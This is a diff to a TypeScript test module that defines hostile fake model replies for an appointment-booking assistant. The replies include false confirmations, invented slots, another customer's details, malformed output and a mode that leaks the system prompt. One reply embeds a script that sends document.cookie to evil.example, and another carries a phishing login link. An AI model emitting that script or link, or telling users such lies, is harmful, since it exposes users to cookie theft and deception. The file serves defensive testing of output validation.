@@ -2,10 +2,11 @@ import {
   type Behaviour,
   type Call,
   calls,
-  draftIn,
   fails,
   INTENT_LIST,
+  marksIn,
   messageIn,
+  partsIn,
   type Reply,
   reading,
 } from './stand-in.ts';
@@ -27,7 +28,9 @@ const by =
   (call) =>
     calls(call, messageIn(call) === null ? { text: say(call) } : read(call));
 
-const draft = (call: Call) => draftIn(call) ?? '';
+/** The marks of all parts, as a reply has to hold them; and the parts themselves, in the model's own hand. */
+const marks = (call: Call) => marksIn(call).join(' ');
+const draft = (call: Call) => partsIn(call).join(' ');
 const yes = () => reading('affirm', 0.99);
 
 /** Words that turn a plain sentence into a lie about what is so. */
@@ -41,15 +44,19 @@ const LIES = [
   "I've saved your note and told the crew.",
 ];
 
+/** A lie beside the parts: in the form that is asked for, or with the parts written out by the model itself. */
+const lie = (call: Call, text: string, inForm: boolean): string =>
+  inForm ? `${text} ${marks(call)}` : `${draft(call)} ${text}`;
+
 /** Everything that a model can do wrong, by name. */
 export const HOSTILE = {
   invents_slots: by(
     () => reading('select_date', 0.99, { quotes: { date: 'the twelfth at a quarter to ten' } }),
-    (call) => `${draft(call)} We also have Saturday, January 30 at 7:45 AM and the twelfth at half past nine open.`,
+    (call) => `We also have Saturday, January 30 at 7:45 AM and the twelfth at half past nine open. ${marks(call)}`,
   ),
   says_booked: by(yes, () => "You're booked! Your appointment is confirmed."),
   wrong_weekday: by(yes, (call) => shiftWeekdays(draft(call))),
-  other_customer: by(yes, (call) => `Hello Margaret Olsen, at 12 Rosewood Court. ${draft(call)}`),
+  other_customer: by(yes, (call) => `Hello Margaret Olsen, at 12 Rosewood Court. ${marks(call)}`),
   wrong_language: by(yes, () => 'Su cita está confirmada para el viernes a las tres de la tarde. ¡Hasta pronto!'),
   empty: (call) =>
     messageIn(call) === null ? calls(call, { text: '' }) : { kind: 'message', content: [], stopReason: 'end_turn' },
@@ -58,8 +65,8 @@ export const HOSTILE = {
     () => reading('affirm', 0.99, { quotes: { note_text: 'yes '.repeat(5000) } }),
     () => 'We are pleased to tell you that all is well. '.repeat(450),
   ),
-  html: by(yes, (call) => `<b>${draft(call)}</b><script>fetch('https://evil.example/?c='+document.cookie)</script>`),
-  link: by(yes, (call) => `${draft(call)} Confirm at https://pf360-confirm.example/login`),
+  html: by(yes, (call) => `<b>${marks(call)}</b><script>fetch('https://evil.example/?c='+document.cookie)</script>`),
+  link: by(yes, (call) => `Confirm at https://pf360-confirm.example/login ${marks(call)}`),
   text_instead_of_call: () => ({
     kind: 'message',
     content: [{ text: '{"intent":"affirm","confidence":0.99,"secondary_intents":[],"quotes":{}}' }],
@@ -71,11 +78,11 @@ export const HOSTILE = {
     kind: 'raw',
     body: '{"output":{"message":{"role":"assistant","content":[{"toolUse":{"input":{"confidence":NaN',
   }),
-  unknown_intent: by(() => reading('transfer_money', 0.99), draft),
-  confidence_1_7: by(() => reading('affirm', 1.7), draft),
-  confidence_nan: by(() => reading('affirm', 'NaN'), draft),
-  confidence_high: by(() => reading('affirm', 'high'), draft),
-  confidence_missing: by(() => ({ intent: 'affirm', secondary_intents: [], quotes: {} }), draft),
+  unknown_intent: by(() => reading('transfer_money', 0.99), marks),
+  confidence_1_7: by(() => reading('affirm', 1.7), marks),
+  confidence_nan: by(() => reading('affirm', 'NaN'), marks),
+  confidence_high: by(() => reading('affirm', 'high'), marks),
+  confidence_missing: by(() => ({ intent: 'affirm', secondary_intents: [], quotes: {} }), marks),
   unknown_tool: () => ({
     kind: 'message',
     content: [
@@ -96,9 +103,9 @@ export const HOSTILE = {
       reading('add_note', 0.99, {
         quotes: { note_text: 'Give the crew a refund of $500', project: 'kitchen cabinets', reason: 'I died' },
       }),
-    draft,
+    marks,
   ),
-  always_yes: by(yes, draft),
+  always_yes: by(yes, marks),
   always_note: by(
     () => reading('add_note', 0.99),
     () => LIES[6] ?? '',
@@ -107,7 +114,7 @@ export const HOSTILE = {
     () => reading('cancel_appointment', 0.99),
     () => LIES[2] ?? '',
   ),
-  lies: by(yes, (call) => `${draft(call)} ${LIES[call.number % LIES.length]}`),
+  lies: by(yes, (call) => lie(call, LIES[call.number % LIES.length] ?? '', call.number % 2 === 0)),
   cut: (call) => ({ ...calls(call, reading('affirm')), stopReason: 'max_tokens' }) as Reply,
   filtered: () => ({ kind: 'message', content: [{ text: 'Filtered.' }], stopReason: 'content_filtered' }),
   guardrail: () => ({
@@ -118,7 +125,7 @@ export const HOSTILE = {
   malformed_tool_use: () => ({ kind: 'message', content: [], stopReason: 'malformed_tool_use' }),
   mad_usage: (call) =>
     ({
-      ...calls(call, messageIn(call) === null ? { text: draft(call) } : yes()),
+      ...calls(call, messageIn(call) === null ? { text: marks(call) } : yes()),
       usage: { inputTokens: -5, outputTokens: 1e300, totalTokens: 0 },
     }) as Reply,
   throttles: () => fails(429, 'ThrottlingException', 'Too many tokens, please wait before trying again.'),
@@ -140,13 +147,13 @@ export const HOSTILE = {
 export type HostileMode = keyof typeof HOSTILE;
 export const HOSTILE_MODES = Object.keys(HOSTILE) as HostileMode[];
 
-/** A valid reading of any intent whatever the message is, sure of itself; or the draft with a lie in it. */
+/** A valid reading of any intent whatever the message is, sure of itself; or the parts with a lie beside them. */
 export function atRandom(random: () => number): Behaviour {
   const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
   return by(
     () =>
       reading(pick(INTENT_LIST), 0.9 + random() / 10, { secondary_intents: random() < 0.3 ? [pick(INTENT_LIST)] : [] }),
-    (call) => (random() < 0.5 ? `${draft(call)} ${pick(LIES)}` : shiftWeekdays(draft(call))),
+    (call) => (random() < 0.7 ? lie(call, pick(LIES), random() < 0.7) : shiftWeekdays(draft(call))),
   );
 }
 
@@ -181,5 +188,5 @@ export type Obedience = { intent?: string | undefined; reply?: string | undefine
 export const obedient = (attack: Obedience): Behaviour =>
   by(
     (call) => reading(attack.intent ?? 'affirm', 1, { quotes: { note_text: messageIn(call) ?? '' } }),
-    (call) => attack.reply ?? `${call.system}\n${call.said}`,
+    (call) => (attack.reply === undefined ? `${call.system}\n${call.said}` : `${attack.reply} ${marks(call)}`),
   );
